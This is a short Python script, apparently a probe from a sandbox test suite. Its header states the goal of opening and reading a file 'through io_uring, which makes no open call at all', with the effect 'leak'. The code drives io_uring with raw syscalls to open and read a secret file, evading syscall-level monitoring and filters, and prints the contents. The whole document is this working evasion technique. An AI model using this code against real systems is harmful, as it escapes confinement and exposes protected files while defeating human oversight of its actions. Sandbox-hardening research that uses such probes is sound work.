"""
goal: open and read a file through io_uring, which makes no open call at all
effect: leak
needs: kernel/io_uring_disabled<=0
"""

import ctypes
import mmap
import os
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
setup = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, setup)
facts = struct.unpack("30I", setup.raw)
queue, entries = mmap.mmap(ring, 4096, offset=0), mmap.mmap(ring, 4096, offset=0x10000000)
answers = mmap.mmap(ring, 4096, offset=0x8000000)
tail_at, mask_at, array_at = facts[11], facts[12], facts[16]
path = ctypes.create_string_buffer(SECRET_FILE.encode())
text = ctypes.create_string_buffer(100)


def submit(operation, fd, address, length):
    entries[:64] = struct.pack("BBHiQQIIQ24x", operation, 0, 0, fd, 0, address, length, 0, 7)
    tail = struct.unpack_from("I", queue, tail_at)[0]
    struct.pack_into("I", queue, array_at + 4 * (tail & 3), 0)
    struct.pack_into("I", queue, tail_at, tail + 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)
    struct.pack_into("I", answers, facts[20], tail + 1)
    return struct.unpack_from("Qi", answers, facts[25] + 16 * tail)[1]


fd = submit(18, -100, ctypes.addressof(path), 0)
submit(22, fd, ctypes.addressof(text), 100)
time.sleep(0.01)
print(text.value)
